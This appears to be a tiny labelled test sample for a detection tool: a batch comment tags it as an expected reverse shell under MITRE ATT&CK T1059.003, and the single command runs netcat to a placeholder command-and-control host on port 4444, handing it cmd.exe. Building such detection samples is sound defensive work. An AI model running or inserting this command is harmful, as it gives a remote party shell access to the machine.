@rem expect: reverse-shell | source: MITRE ATT&CK T1059.003
nc.exe c2.example.invalid 4444 -e cmd.exe
